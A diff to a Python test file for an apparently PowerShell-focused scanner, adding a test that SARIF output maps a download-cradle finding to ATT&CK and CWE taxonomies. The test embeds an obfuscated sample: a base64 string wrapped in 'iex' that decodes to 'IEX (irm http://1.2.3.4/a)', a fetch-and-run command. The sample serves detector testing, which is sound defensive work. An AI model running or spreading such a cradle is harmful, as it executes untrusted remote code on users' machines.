@@ -16,6 +16,7 @@ from pipeline.analysis.catalog import load_rule
 from pipeline.analysis.files import FileReport, report_on
 from pipeline.analysis.formats import FORMATS, Style, writer
 from pipeline.analysis.rule import Chosen
+from pipeline.analysis.security import add_findings, add_layers, add_reasons
 
 RULES = ["PSAvoidTrailingWhitespace", "PSAvoidUsingWriteHost", "PSUseBOMForUnicodeEncodedFile", "PSAvoidUsingConvertToSecureStringWithPlainText"]
 NASTY = "a b/\u00fc%<&>\"':,|#\x1b.ps1"
@@ -53,6 +54,32 @@ def test_sarif_is_valid(reports: list[FileReport]) -> None:
     assert [result.get("suppressions") for result in run["results"]][-1] == [{"kind": "inSource"}]
     assert run["invocations"][0]["executionSuccessful"] is False
     assert run["columnKind"] == "utf16CodeUnits"
+
+
+def test_sarif_carries_attack_and_cwe() -> None:
+    inner = "SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwAxAC4AMgAuADMALgA0AC8AYQApAA=="
+    wrapped = f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{inner}')))"
+    report = report_on("x.ps1", wrapped.encode(), [], path=Path("x.ps1"), extras=[add_findings, add_layers, add_reasons])
+    document = json.loads(written("sarif", [judged("clean.ps1", "$a"), report]))
+    jsonschema.validate(document, json.loads((Path(schema.__file__).parent / "sarif-2.1.0.json").read_text(encoding="utf-8")))
+    run: dict[str, Any] = document["runs"][0]
+    lists = run["taxonomies"]
+    assert [each["name"] for each in lists] == ["ATT&CK", "CWE"]
+    assert run["tool"]["driver"]["supportedTaxonomies"] == [{"name": "ATT&CK", "index": 0}, {"name": "CWE", "index": 1}]
+    rules = {rule["id"]: rule for rule in run["tool"]["driver"]["rules"]}
+    for rule in rules.values():
+        for relation in rule["relationships"]:
+            target = relation["target"]
+            assert lists[target["toolComponent"]["index"]]["name"] == target["toolComponent"]["name"]
+            assert lists[target["toolComponent"]["index"]]["taxa"][target["index"]]["id"] == target["id"]
+    cradle = rules["PS012_DownloadCradle"]
+    assert [relation["target"]["id"] for relation in cradle["relationships"]] == ["T1105", "T1059.001", "CWE-494"]
+    assert cradle["properties"]["security-severity"] == "9.5"
+    (found,) = (result for result in run["results"] if result["ruleId"] == "PS012_DownloadCradle")
+    layer = run["artifacts"][found["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["index"]]
+    assert layer["contents"]["text"].startswith("IEX (irm")
+    assert run["artifacts"][layer["parentIndex"]]["location"]["uri"] == "x.ps1"
+    assert run["artifacts"][layer["parentIndex"]]["properties"]["scores"]["malice"] >= 50
 
 
 SUITE = {"name", "package", "id", "timestamp", "hostname", "tests", "failures", "errors", "time"}
